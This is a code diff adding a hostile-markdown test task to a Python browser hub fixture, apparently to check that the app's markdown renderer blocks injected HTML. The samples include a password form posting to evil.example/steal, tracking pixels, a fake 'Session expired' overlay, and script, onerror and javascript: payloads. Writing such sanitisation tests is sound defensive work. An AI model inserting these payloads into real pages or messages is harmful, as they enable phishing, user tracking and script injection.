@@ -2,7 +2,8 @@
 once, one of them expiring, and a task state of its own; a steady stream of numbered
 lines that outlives a hub restart; an order form with lists and nested models, asked
 blank and pre-filled; tasks that name a view (one the app has, one it does not); a task
-that fails and one that cancels itself."""
+that fails and one that cancels itself; one whose markdown tries every trick the app
+must not render."""
 
 from __future__ import annotations
 
@@ -85,10 +86,23 @@ def look_up(table: dict[str, str], key: str) -> str:
     return table[key]
 
 
+# A markdown sample per trick: styles, forms, remote images, full-page overlays, script.
+HOSTILE_MARKDOWN = [
+    "<style>body { display: none !important }</style>**styled away**",
+    '<form action="https://evil.example/steal" method="post">Password <input '
+    'type="password" name="p"><button>Log in</button></form>',
+    '![tracker](http://evil.example/pixel.gif) <img src="https://evil.example/p.png" alt="p">',
+    '<div style="position:fixed;inset:0;z-index:99999;background:red">Session expired</div>',
+    "<script>window.hacked = 1</script><img src=/x onerror=\"window.hacked = 2\">script",
+    "[click me](javascript:window.hacked=3)",
+]
+
+
 def build_browser_hub() -> Hub:
     """The demo tasks plus ``two_questions``, ``steady``, ``order_form``,
     ``prefilled_order``, ``reply_drafts`` (the email assistant's view), ``gantt_chart`` (a
-    view the app does not have), ``failing`` and ``self_cancelling``."""
+    view the app does not have), ``failing``, ``self_cancelling`` and
+    ``hostile_markdown``."""
     hub = build_demo_hub()
 
     @hub.task(title="Reply drafts", view="email_assistant")
@@ -152,4 +166,14 @@ def build_browser_hub() -> Hub:
         )
         return order.model_dump(mode="json")
 
+    register_hostile_markdown(hub)
     return hub
+
+
+def register_hostile_markdown(hub: Hub) -> None:
+    @hub.task(title="Hostile markdown", description="Writes markdown that must not render.")
+    async def hostile_markdown(ctx: Context) -> str:
+        for sample in HOSTILE_MARKDOWN:
+            await ctx.markdown(sample)
+        ok = await ctx.confirm("Still readable?", details="\n\n".join(HOSTILE_MARKDOWN))
+        return "read" if ok else "unread"
